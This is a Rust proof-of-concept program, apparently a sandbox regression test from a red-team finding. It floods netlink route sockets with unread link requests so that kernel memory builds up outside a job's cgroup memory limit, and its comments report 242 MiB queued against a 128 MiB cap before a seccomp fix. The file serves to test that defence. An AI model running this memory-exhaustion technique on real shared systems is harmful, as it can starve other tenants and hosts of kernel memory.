// Kernel memory outside the job's memory cgroup without a user namespace (red team F4b): NETLINK_ROUTE sockets in
// the job's own network namespace ask the kernel for link 1 (lo) again and again and never read, so the replies
// fill each socket's receive queue; netlink does not charge that memory to the job's cgroup. Two processes x 600
// sockets queued 242 MiB against a 128 MiB job limit before the seccomp filter became an allow-list of families.
// Prints `queued=N` (MiB, the kernel's own count in /proc/net/netlink of the job's namespace) while they are held.
use std::io::{BufRead, BufReader, Write};
use std::process::{Command, Stdio};

extern "C" {
    fn socket(d: i32, t: i32, p: i32) -> i32;
    fn sendto(fd: i32, b: *const u8, n: usize, f: i32, a: *const u8, al: u32) -> isize;
}

fn queued_mib() -> u64 {
    let t = std::fs::read_to_string("/proc/net/netlink").unwrap_or_default();
    let bytes: u64 = t.lines().skip(1).filter_map(|l| l.split_whitespace().nth(4)?.parse::<u64>().ok()).sum();
    bytes >> 20
}

fn fill(sockets: usize) {
    let mut msg = [0u8; 32];
    msg[0..4].copy_from_slice(&32u32.to_ne_bytes()); // nlmsg_len
    msg[4..6].copy_from_slice(&18u16.to_ne_bytes()); // RTM_GETLINK
    msg[6..8].copy_from_slice(&1u16.to_ne_bytes()); // NLM_F_REQUEST
    msg[20..24].copy_from_slice(&1i32.to_ne_bytes()); // ifi_index 1 (lo)
    let addr = [16u8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]; // sockaddr_nl of the kernel
    let mut opened = 0;
    for _ in 0..sockets {
        let fd = unsafe { socket(16, 3, 0) }; // AF_NETLINK, SOCK_RAW, NETLINK_ROUTE
        if fd < 0 {
            println!("netlink: blocked ({})", std::io::Error::last_os_error());
            break;
        }
        opened += 1;
        for _ in 0..150 {
            unsafe { sendto(fd, msg.as_ptr(), 32, 0x40 /* MSG_DONTWAIT */, addr.as_ptr(), 12) };
        }
    }
    println!("opened {}", opened);
    println!("filled");
    std::io::stdout().flush().ok();
    // hold the sockets until the parent has counted (it closes our stdin)
    let mut line = String::new();
    std::io::stdin().read_line(&mut line).ok();
}

fn main() {
    if std::env::args().nth(1).is_some() {
        fill(600);
        return;
    }
    let mut kids = vec![];
    for _ in 0..2 {
        match Command::new("/proc/self/exe").arg("c").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn() {
            Ok(c) => kids.push(c),
            Err(e) => println!("spawn failed: {}", e),
        }
    }
    for k in kids.iter_mut() {
        for line in BufReader::new(k.stdout.take().unwrap()).lines().flatten() {
            println!("child: {}", line);
            if line == "filled" {
                break;
            }
        }
    }
    println!("queued={}", queued_mib());
    for mut k in kids {
        drop(k.stdin.take());
        let _ = k.wait();
    }
}
